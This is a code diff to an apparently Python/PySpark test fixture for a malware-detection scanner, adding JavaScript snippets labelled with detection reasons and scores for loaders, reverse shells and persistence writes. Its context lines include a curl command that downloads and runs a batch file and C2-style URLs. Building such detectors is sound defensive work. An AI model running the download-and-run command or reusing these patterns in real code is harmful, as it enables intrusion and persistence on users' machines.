@@ -29,6 +29,20 @@ CLASSES = {"en": "Malware", "de": "Impersonation;Spam", "fr": "Untrustworthy"}
 COMMANDS = ["curl http://files.catbox.moe/x.bat -o a.bat && start a.bat", "whoami /priv", "ipconfig /all", "node server.js", "git status"]
 URLS = ["https://abc.ngrok.io/c2", "https://api.telegram.org/bot1/send", "https://example.com/api", "http://8.8.4.7:8080/p"]
 SAMPLES = 3000
+#: Script lines and what the call shapes say of them: reason, points, tier.
+SCRIPTS = [
+    ("eval(atob(p))", "AST: eval()/new Function() over DECODED data (base64/decipher/inflate) — multi-stage loader", 45, "primary"),
+    ("new Function('return ' + body)", "AST: dynamic eval()/new Function() on a constructed (non-static) value", 12, "supporting"),
+    ("c.createDecipheriv('aes-256-cbc', '0123456789abcdef', iv)", "runtime-decrypts an embedded payload with a hard-coded key (packed second stage)", 45, "primary"),
+    ("s.on('data', d => { cp.exec('ls') })", "AST: reverse shell — a socket data handler executes received input as a process", 55, "primary"),
+    ("cp.exec(Buffer.from(x, 'hex').toString())", "AST: child_process executing a DECODED command string", 50, "primary"),
+    ("cp.spawn(cmd)", "AST: child_process invoked with a non-static/tainted command argument", 12, "supporting"),
+    ("fs.writeFile('/x/.config/autostart/a', d)", "AST: writes into an autostart/persistence location", 45, "primary"),
+    ("fs.writeFileSync('run.exe', d)", "AST: writes an executable/script payload to disk", 35, "primary"),
+    ("fs.createWriteStream(__dirname + '/a.ps1')", "AST: writes an executable payload into a temp/extension directory", 15, "supporting"),
+    ("cp.exec('git status'); eval('1')", None, None, None),
+    ("plain()", None, None, None),
+]
 
 
 def read(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
@@ -46,6 +60,13 @@ def files(spark: SparkSession, sf_dir: str) -> DataFrame:
     return docs.select(F.col("doc_id").alias("sample_key"), F.concat(F.col("lang"), F.lit("/"), F.col("doc_id").cast("string"), F.lit(".txt")).alias("path"), F.col("n_chars").alias("size"), F.col("text").alias("content"))
 
 
+def scripts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """A script for each document, one of ``SCRIPTS`` and then its text."""
+    docs = read(spark, sf_dir, "documents").select("doc_id", "text")
+    content = F.concat(choose([line for line, *_ in SCRIPTS], F.col("doc_id")), F.lit("\n// "), F.regexp_replace(F.substring("text", 1, 200), r"[^\w ]", ""))
+    return docs.select(F.col("doc_id").alias("sample_key"), F.lit("src/a.js").alias("path"), F.length(content).cast("long").alias("size"), content.alias("content"))
+
+
 def document_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
     return static.findings(files(spark, sf_dir), PACK)
 
